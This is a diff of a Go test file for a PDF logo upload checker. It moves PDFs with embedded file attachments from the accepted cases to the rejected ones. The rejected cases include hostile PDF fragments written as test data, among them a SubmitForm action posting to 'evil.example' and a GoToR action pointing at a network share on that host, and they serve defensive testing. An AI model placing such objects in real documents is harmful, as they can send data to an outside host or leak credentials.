@@ -41,6 +41,8 @@ func TestAPDFThatDoesSomethingIsRejected(t *testing.T) {
 		"form that sends":              "1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj",
 		"form of XML":                  "1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj",
 		"other file":                   "1 0 obj<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>endobj",
+		"attached files":               "1 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj",
+		"attached file":                "1 0 obj<</Type/EmbeddedFile/Length 0>>stream\nendstream endobj",
 		"script in an object stream":   stream(objStm, script),
 		"stream without its type":      stream("/N 1/First 4", script),
 		"second stream":                stream("", "0.5 w q") + stream(objStm, script),
@@ -69,7 +71,6 @@ func TestAPDFThatOnlyShowsSomethingIsAccepted(t *testing.T) {
 		"drawing encoded as text":     "5 0 obj<</Filter[/ASCII85Decode/FlateDecode]>>stream\nGar\nendstream endobj",
 		"protected, without a stream": "trailer<</Encrypt 3 0 R>>",
 		"name with a broken escape":   "1 0 obj<</A#4 1/#/#zz>>endobj",
-		"attached data of an invoice": "1 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj",
 	} {
 		t.Run(name, func(t *testing.T) {
 			if _, err := logo.Inspect(api.Upload{Name: "a.pdf", Bytes: []byte(pdfOf(text))}, "trademark_data.logo"); err != nil {
